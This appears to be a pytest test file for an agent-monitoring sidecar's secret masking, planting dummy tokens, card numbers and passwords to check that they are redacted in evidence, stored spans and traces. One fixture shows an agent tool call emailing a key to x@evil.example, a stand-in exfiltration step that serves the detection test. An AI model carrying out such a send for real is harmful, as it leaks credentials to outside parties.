"""Secrets: masked in evidence always, and in what serve stores and forwards by default."""

from __future__ import annotations

import json

import duckdb
import httpx
import pytest
from fresh_processes import json_of_runs
from opentelemetry.exporter.otlp.proto.common.trace_encoder import encode_spans

from otel_safety.analysis.secrets import _BUILTIN, MASK, mask, pattern_set
from otel_safety.config import Settings
from otel_safety.detectors.entry import trajectory_from_entry
from otel_safety.detectors.tool_guard import ToolGuardDetector
from otel_safety.sidecar import Sidecar, SidecarOptions

FINE_GRAINED = "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMN"
GOOGLE = "AIzaSyA1234567890abcdefghijklmnopqrstuv"
CARD = "4111 1111 1111 1111"
SLACK = "xoxb-123456789012-1234567890123-abcdefghijklmnopqrstuvwx"


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (f"use {FINE_GRAINED} to push", FINE_GRAINED),
        ("fetch https://deploy:hunter2hunter2@git.example.com/repo.git", "hunter2hunter2"),
        (f"charge card {CARD} now", CARD),
        (f"maps key {GOOGLE}", GOOGLE),
        (f'{{"token": "{SLACK}"}}', SLACK),
        ("aws AKIAIOSFODNN7EXAMPLE here", "AKIAIOSFODNN7EXAMPLE"),
    ],
)
def test_secrets_are_masked_and_only_they(text, secret):
    masked, count = mask(text)
    assert secret not in masked and MASK in masked and count >= 1
    assert masked.startswith(text.split(secret)[0])  # what comes before it is kept


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("Authorization: Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0", "Authorization: [REDACTED]"),
        (  # a secret access key beside its key id, named by nothing else
            "id AKIAIOSFODNN7EXAMPLE, key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY.",
            "id [REDACTED], key [REDACTED].",
        ),
    ],
)
def test_credentials_the_keyed_patterns_missed_are_masked(text, masked):
    """Both passed unmasked into spans, evidence, approvals and the deep prompt."""
    found, _ = mask(text)
    assert found.startswith(masked) and "9f8e7d6c" not in found and "EXAMPLEKEY" not in found


def test_json_stays_json_and_plain_numbers_stay():
    document = json.dumps({"password": "s3cr3t-pass", "note": "order 1234 5678 9012 3456"})
    masked, count = mask(document)
    assert json.loads(masked) == {"password": MASK, "note": "order 1234 5678 9012 3456"}
    assert count == 1
    assert mask("nothing to see here, 42 apples")[1] == 0


def test_the_maintained_pattern_set_is_in_use():
    assert len(pattern_set()) > len(_BUILTIN) + 20  # detect-secrets' plugins are loaded


@pytest.mark.process
def test_a_later_process_reads_detect_secrets_patterns_from_the_cache_not_its_plugins(tmp_path):
    """Importing detect-secrets' plugins (and `requests`) cost every process start more than
    masking's own patterns: once read, they are kept in the pattern cache under the
    library's version, and a later process masks alike without importing them."""
    script = (
        "import json, sys\n"
        "from otel_safety.analysis.secrets import mask, pattern_set\n"
        "masked = mask('stripe sk_live_4eC39HqLyjWDarjtT1zdp7dc now')\n"
        "print(json.dumps({'patterns': [[p.pattern, int(p.flags)] for p in pattern_set()],"
        " 'masked': masked, 'imported': 'detect_secrets' in sys.modules}))\n"
    )
    first, second = json_of_runs(script, tmp_path / "cache")
    assert first["imported"] and not second["imported"]
    assert second["patterns"] == first["patterns"]
    assert second["masked"] == first["masked"] == ["stripe [REDACTED] now", 1]  # detect-secrets'


def test_evidence_never_quotes_a_secret():
    finding = ToolGuardDetector().evaluate(
        trajectory_from_entry(
            {
                "input": "Send the deploy notes to ops",
                "tool_events": [
                    {
                        "name": "send_email",
                        "arguments": {"to": "x@evil.example", "body": f"key {FINE_GRAINED}"},
                        "result": "sent",
                    }
                ],
            }
        )
    )
    assert finding is not None
    text = json.dumps([e.model_dump() for e in finding.evidence]) + finding.explanation
    assert FINE_GRAINED not in text


def _post(sidecar, spans) -> None:
    reply = httpx.post(
        f"{sidecar.http_url}/v1/traces",
        content=encode_spans(spans).SerializeToString(),
        headers={"Content-Type": "application/x-protobuf"},
    )
    assert reply.status_code == 200


@pytest.mark.process
@pytest.mark.parametrize("redact", [True, False])
def test_serve_masks_secrets_in_what_it_stores_after_judging(tmp_path, span_factory, redact):
    settings = Settings.resolve(
        environ={},
        db_path=str(tmp_path / "s.duckdb"),
        detectors=["tool_guard"],
        decision_wait=0.1,
        redact_secrets=redact,
    )
    runs = span_factory.agent_run(
        prompt=f"deploy with {FINE_GRAINED}", answer=f"Done, used key {GOOGLE}."
    )
    with Sidecar(settings, SidecarOptions(grpc_port=None, http_port=0)) as sidecar:
        _post(sidecar, runs)
    with duckdb.connect(settings.db_path, read_only=True) as con:
        stored = json.dumps(con.execute("SELECT attributes FROM spans").fetchall())
        trajectories = json.dumps(con.execute("SELECT trajectory FROM traces").fetchall())
    assert (FINE_GRAINED in stored) is not redact
    assert (GOOGLE in trajectories) is not redact
    assert (sidecar.engine.stats["secrets_redacted"] > 0) is redact


def test_a_span_name_status_and_resource_are_masked_like_its_attributes():
    """They reached the store, the report, the dashboard and the next hop as sent."""
    from opentelemetry.sdk.resources import Resource
    from opentelemetry.sdk.trace import ReadableSpan
    from opentelemetry.trace import SpanContext, Status, StatusCode

    from otel_safety.pipeline import TraceEvaluation
    from otel_safety.redaction import redact_evaluation

    url = "postgres://svc:Zx9Pg_Passw0rd@db.internal/app"
    resource = Resource({"service.name": "agent", "app.db_url": url})
    spans = [
        ReadableSpan(
            name=f"execute_tool run_shell {FINE_GRAINED}",
            context=SpanContext(1, number, False),
            resource=resource,
            status=Status(StatusCode.ERROR, f"failed: {url}"),
        )
        for number in (1, 2)
    ]
    evaluation = TraceEvaluation(trace_id=1, spans=spans, findings=[], reason="test")
    assert redact_evaluation(evaluation) == 2 + 2 + 1  # names, statuses, the shared resource
    text = repr(
        [(s.name, s.status.description, dict(s.resource.attributes)) for s in evaluation.spans]
    )
    assert FINE_GRAINED not in text and "Zx9Pg_Passw0rd" not in text
    assert evaluation.spans[0].resource is evaluation.spans[1].resource  # masked once


def test_the_prefilter_never_hides_a_secret_the_patterns_find(shared_data):
    """Every pattern on its own, over real texts with secrets planted in them, finds nothing
    that the prefiltered search misses."""
    from otel_safety.analysis import secrets
    from otel_safety.evaluation import datasets

    texts = [
        message["content"] + f" {planted}"
        for case, planted in zip(
            datasets.sample(datasets.load(shared_data, ["xstest"]), 60),
            [FINE_GRAINED, GOOGLE, CARD, SLACK, "", "AKIAIOSFODNN7EXAMPLE"] * 10,
            strict=True,
        )
        for message in case.messages
    ]
    for text in texts:
        exhaustive = {
            secrets._secret_of(match)
            for pattern in secrets.pattern_set()
            for match in pattern.finditer(text)
        }
        found = secrets.secret_spans(text)
        assert all(any(s <= a and b <= e for s, e in found) for a, b in exhaustive if b > a)


def _planted_texts(shared_data) -> list[str]:
    """Real texts with secrets planted among them, and runs of digits, spaces and hyphens
    that are and are not card numbers, beside each other and at the edges."""
    from otel_safety.evaluation import datasets

    cases = datasets.sample(datasets.load(shared_data, ["xstest", "agentdojo"]), 40)
    texts = [message["content"] or "" for case in cases for message in case.messages]
    plants = [FINE_GRAINED, GOOGLE, CARD, SLACK, "token=abcd1234", "AKIAIOSFODNN7EXAMPLE"]
    runs = [
        "4111111111111111",
        "-4111 1111 1111 1111-",
        "4111-1111-1111-1111 4012 8888 8888 1881",
        "12345678901234567890123",
        "1 2 3 4 5 6 7 8 9 0 1 2 3 4",
        "--------------------------",
    ]
    planted = []
    for number, text in enumerate(texts):
        plant, run = plants[number % len(plants)], runs[number % len(runs)]
        middle = len(text) // 2
        planted.append(f"{run}{text[:middle]} {plant} {run}{text[middle:]}{run}")
    return planted


def test_secret_patterns_on_re2_find_what_regex_finds(shared_data, monkeypatch):
    """Long ASCII texts are searched on RE2 (`analysis.linear`): every pattern that has an
    RE2 twin finds the very matches `regex` finds, and card numbers are found in the same
    places through the runs RE2 locates as by searching the whole text."""
    from otel_safety.analysis import linear, secrets

    monkeypatch.setattr(linear, "SHORT", 0)  # RE2 for every ASCII text, short ones too
    texts = [text.encode("ascii", "ignore").decode() for text in _planted_texts(shared_data)]
    twins = [p for p in pattern_set() if isinstance(p, linear.LinearPattern) and linear.on_re2(p)]
    assert len(twins) >= len(_BUILTIN) - 1  # the keyed-value pattern among them
    for text in texts:
        for pattern in twins:
            found = [(m.span(), m.groups()) for m in pattern.finditer(text)]
            expected = [(m.span(), m.groups()) for m in pattern.backtracking.finditer(text)]
            assert found == expected, (pattern.pattern[:80], text[:80])
        cards = [m.span() for m in secrets._cards(text)]
        assert cards == [m.span() for m in secrets._CARD.finditer(text)], text[:80]
    assert any(next(secrets._cards(text), None) for text in texts)
